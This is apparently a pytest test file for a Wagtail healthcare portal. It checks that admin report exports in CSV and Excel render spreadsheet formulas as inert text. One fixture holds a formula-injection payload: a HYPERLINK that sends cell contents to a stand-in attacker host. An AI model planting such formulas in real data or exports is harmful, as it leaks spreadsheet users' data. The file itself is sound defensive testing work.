"""Every spreadsheet the admin offers, Wagtail's own reports included, writes text a
spreadsheet would run as a formula as inert text (one guard: portal.spreadsheets)."""

import csv
import datetime as dt
import io

import pytest
from wagtail.log_actions import log

from content.models import ArticlePage
from portal.spreadsheets import FORMULA_STARTS, formula_safe, xlsx_cell
from tests.factories import StaffUserFactory, activate_totp
from transitions.models import CareTransition, Facility

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def superuser(db):
    user = StaffUserFactory(is_superuser=True)
    activate_totp(user)
    return user


@pytest.fixture
def formula_everywhere(library, superuser):
    """A discharge reference and a published page title, each a formula, both in Site history."""
    hospital = Facility.objects.create(name="General Hospital", kind="hospital")
    transition = CareTransition.objects.create(
        external_reference=FORMULA,
        patient_first_name="Ana",
        email="ana@example.org",
        discharging_facility=hospital,
        destination_kind="snf",
        transition_date=dt.date.today() - dt.timedelta(days=3),
    )
    log(instance=transition, action="wagtail.create", user=superuser)
    page = library["copd"]
    ArticlePage.objects.filter(pk=page.pk).update(title=FORMULA, draft_title=FORMULA)
    page.refresh_from_db()
    log(instance=page, action="wagtail.edit", user=superuser)
    return page


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(client, url: str) -> list[str]:
    text = download(client, url).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


REPORTS = [
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/content-reports/readability/",
    "/admin/content-reports/review-due/",
    "/admin/packet-reports/",
]


@pytest.mark.parametrize("report", REPORTS)
def test_a_formula_in_a_reference_or_title_comes_out_inert_in_the_csv(
    client, superuser, formula_everywhere, report
):
    client.force_login(superuser)
    if "review-due" in report:
        ArticlePage.objects.filter(pk=formula_everywhere.pk).update(next_review_due=dt.date.today())
    cells = csv_cells(client, report + "?export=csv")
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_site_history_names_the_transition_and_the_page_inertly(client, superuser, formula_everywhere):
    client.force_login(superuser)
    cells = csv_cells(client, "/admin/reports/site-history/?export=csv")
    assert cells.count("'" + FORMULA) == 2  # the care transition and the page


@pytest.mark.parametrize("report", REPORTS)
def test_a_formula_comes_out_as_plain_text_in_the_excel_workbook(
    client, superuser, formula_everywhere, report
):
    from openpyxl import load_workbook

    client.force_login(superuser)
    if "review-due" in report:
        ArticlePage.objects.filter(pk=formula_everywhere.pk).update(next_review_due=dt.date.today())
    workbook = load_workbook(io.BytesIO(download(client, report + "?export=xlsx")))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    titled = [cell for cell in cells if cell.value == FORMULA]
    # Stored as a text cell, exactly as typed: no formula, and no apostrophe to explain;
    # the quote-prefix style keeps it text in Excel and LibreOffice even when edited.
    assert titled and all(cell.data_type == "s" and cell.quotePrefix for cell in titled)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_one_guard_leaves_numbers_and_ordinary_text_alone():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert formula_safe(text) == "'" + text
    assert formula_safe("A-1") == "A-1"
    assert formula_safe(-2) == -2 and formula_safe(87.5) == 87.5


def test_an_xlsx_cell_keeps_risky_text_as_typed_inert_and_other_values_as_they_are():
    from openpyxl import Workbook, load_workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Cells")
    when = dt.datetime(2026, 3, 5, 10, 0)
    values = [FORMULA, "-2+3", "\x01=cmd", "A-1", 87.5, when]
    sheet.append([xlsx_cell(sheet, value) for value in values])
    file = io.BytesIO()
    workbook.save(file)
    cells = next(load_workbook(io.BytesIO(file.getvalue())).active.iter_rows())
    assert [cell.value for cell in cells] == [FORMULA, "-2+3", "=cmd", "A-1", 87.5, when]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "s", "n", "d"]
    assert [bool(cell.quotePrefix) for cell in cells] == [True, True, True, False, False, False]
